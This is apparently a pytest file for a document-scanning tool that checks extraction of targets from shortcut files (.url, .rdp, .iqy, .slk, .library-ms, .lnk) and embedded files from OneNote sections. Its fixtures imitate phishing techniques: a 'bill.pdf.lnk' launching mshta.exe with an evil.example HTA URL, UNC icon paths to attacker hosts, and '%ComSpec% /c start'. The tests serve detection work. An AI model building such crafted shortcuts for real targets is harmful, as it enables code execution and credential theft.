"""Files that only point elsewhere, and OneNote sections."""

import struct

import pytest

from submissions.extraction.types import Limits
from tests.extraction.opening import codes, opened, urls

LINK_HEADER = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
FILE_DATA = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")


def shell_link(flags: int, rest: bytes) -> bytes:
    return LINK_HEADER + struct.pack("<I", flags) + bytes(52) + rest


def counted(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def blob(content: bytes) -> bytes:
    return FILE_DATA + struct.pack("<QIQ", len(content), 0, 0) + content + bytes(16)


@pytest.mark.parametrize(
    ("content", "name", "found"),
    [
        (b"[InternetShortcut]\r\nURL=https://a.example/x\r\nIconFile=\\\\evil.example\\i\\a.ico\r\n", "a.url",
         ["https://a.example/x", "\\\\evil.example\\i\\a.ico"]),
        (b"[{000214A0-0000-0000-C000-000000000046}]\r\n[InternetShortcut]\r\nBASEURL=https://b.example/\r\n",
         "b.website", ["https://b.example/"]),
        ("[InternetShortcut]\r\nURL=https://wide.example/\r\n".encode("utf-16"), "c.url", ["https://wide.example/"]),
        (b"span monitors:i:1\r\nfull address:s:desk.example:3390\r\ngatewayhostname:s:gw.example\r\n", "a.rdp",
         ["rdp://desk.example:3390", "rdp://gw.example"]),
        ("Full Address:s:198.51.100.7\r\n".encode("utf-16"), "wide.rdp", ["rdp://198.51.100.7"]),
        (b"WEB\r\n1\r\nhttps://query.example/q.php\r\n", "a.iqy", ["https://query.example/q.php"]),
        (b'ID;P\r\nC;X1;Y1;EHYPERLINK("https://slk.example/")\r\n', "a.slk", ["https://slk.example/"]),
        (b"<?xml version='1.0'?><libraryDescription><simpleLocation><url>\\\\10.0.0.1@80\\dav\\</url></simpleLocation>"
         b"</libraryDescription>", "a.library-ms", ["\\\\10.0.0.1@80\\dav\\"]),
    ],
)  # fmt: skip
def test_it_finds_where_a_shortcut_leads(content: bytes, name: str, found: list[str]) -> None:
    assert urls(opened(content, name)) == found


def test_it_reads_target_arguments_and_icon_of_a_shell_link() -> None:
    path = b"C:\\Windows\\System32\\mshta.exe\x00"
    info = struct.pack("<IIIIIII", 28 + len(path), 28, 1, 0, 28, 0, 0) + path
    strings = counted("..\\mshta.exe") + counted("https://evil.example/a.hta") + counted("\\\\icons.example\\i\\a.ico")

    inside = opened(shell_link(0x02 | 0x08 | 0x20 | 0x40 | 0x80, info + strings), "bill.pdf.lnk")

    assert inside.text.splitlines() == [
        "path: C:\\Windows\\System32\\mshta.exe",
        "relative path: ..\\mshta.exe",
        "arguments: https://evil.example/a.hta",
        "icon: \\\\icons.example\\i\\a.ico",
    ]
    assert urls(inside) == ["https://evil.example/a.hta", "\\\\icons.example\\i\\a.ico"]


def test_it_reads_the_target_by_environment_variables() -> None:
    block = (
        struct.pack("<II", 788, 0xA0000001) + bytes(260) + "%ComSpec% /c start".encode("utf-16-le").ljust(520, b"\x00")
    )

    assert opened(shell_link(0x200, block)).text == "target: %ComSpec% /c start"


def test_data_behind_a_shell_link_is_noted() -> None:
    assert opened(shell_link(0, bytes(70_000))).notes == ("appended-data",)


def test_a_shell_link_that_is_only_a_beginning_is_broken() -> None:
    assert codes(opened(LINK_HEADER)) == ["broken"]


def test_it_takes_files_and_addresses_out_of_a_onenote_section() -> None:
    section = (
        ONENOTE
        + bytes(1000)
        + blob(b"MZ program")
        + "Open https://note.example/x ".encode("utf-16-le")
        + blob(b"run()")
    )

    inside = opened(section, "a.one")

    assert [member.content for member in inside.members] == [b"MZ program", b"run()"]
    assert urls(inside) == ["https://note.example/x"]
    assert inside.notes == ("embedded-files",)


def test_a_file_in_a_onenote_section_is_limited() -> None:
    inside = opened(ONENOTE + blob(b"x" * 5000), limits=Limits(file_bytes=100))

    assert len(inside.members[0].content) == 100
    assert codes(inside) == ["limit-file-bytes"]
